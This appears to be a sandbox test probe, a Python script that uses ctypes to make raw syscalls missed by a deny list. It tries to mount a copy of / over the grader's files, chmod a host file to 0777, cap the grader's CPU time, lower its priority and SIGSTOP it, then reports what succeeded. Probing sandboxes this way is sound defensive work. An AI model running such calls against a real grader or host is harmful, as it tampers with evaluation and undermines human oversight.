"""Attack: the system calls a deny list forgets, called raw through ctypes: a bind mount
over the grader's files (open_tree + move_mount, fsopen), a chmod of a host file
(fchmodat2), lowering the grader's CPU limit (prlimit64 on its pid), its priority
(setpriority), and a signal to it (kill)."""
import ctypes
import json
import os

TARGETS = {}  # the test writes the real paths here

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
ARM = os.uname().machine in ("aarch64", "arm64")
NR = {"open_tree": 428, "move_mount": 429, "fsopen": 430, "fchmodat2": 452,
      "prlimit64": 261 if ARM else 302, "setpriority": 140 if ARM else 141,
      "kill": 129 if ARM else 62}
grader = TARGETS.get("grader_pid", os.getppid())
AT_FDCWD = -100


class Rlimit(ctypes.Structure):
    _fields_ = [("cur", ctypes.c_uint64), ("max", ctypes.c_uint64)]


one_second = Rlimit(1, 1)
calls = {
    "open_tree": (ctypes.c_int(AT_FDCWD), b"/", ctypes.c_uint(1 | 0x80000)),   # OPEN_TREE_CLONE
    "fsopen": (b"tmpfs", ctypes.c_uint(0)),
    "fchmodat2": (ctypes.c_int(AT_FDCWD), TARGETS.get("chmod_target", "/nonexistent").encode(),
                  ctypes.c_uint(0o777), ctypes.c_uint(0)),
    "prlimit64": (ctypes.c_int(grader), ctypes.c_int(0), ctypes.byref(one_second), None),  # RLIMIT_CPU
    "setpriority": (ctypes.c_int(0), ctypes.c_int(grader), ctypes.c_int(19)),          # PRIO_PROCESS
    "kill": (ctypes.c_int(grader), ctypes.c_int(19)),                                  # SIGSTOP
}
found = {}
for name, args in calls.items():
    result = libc.syscall(ctypes.c_long(NR[name]), *args)
    found[name] = "ok:%d" % result if result >= 0 else os.strerror(ctypes.get_errno())
    if name == "open_tree" and result >= 0:   # a detached copy of /: try to mount it over
        moved = libc.syscall(ctypes.c_long(NR["move_mount"]), ctypes.c_int(result), b"",
                             ctypes.c_int(AT_FDCWD), TARGETS.get("course_root", "/").encode(),
                             ctypes.c_uint(4))                                        # F_EMPTY_PATH
        found["move_mount"] = "ok:%d" % moved if moved >= 0 else os.strerror(ctypes.get_errno())
raise RuntimeError("LEAK " + json.dumps(sorted(found.items(), key=lambda kv: "ok" not in str(kv[1]))))
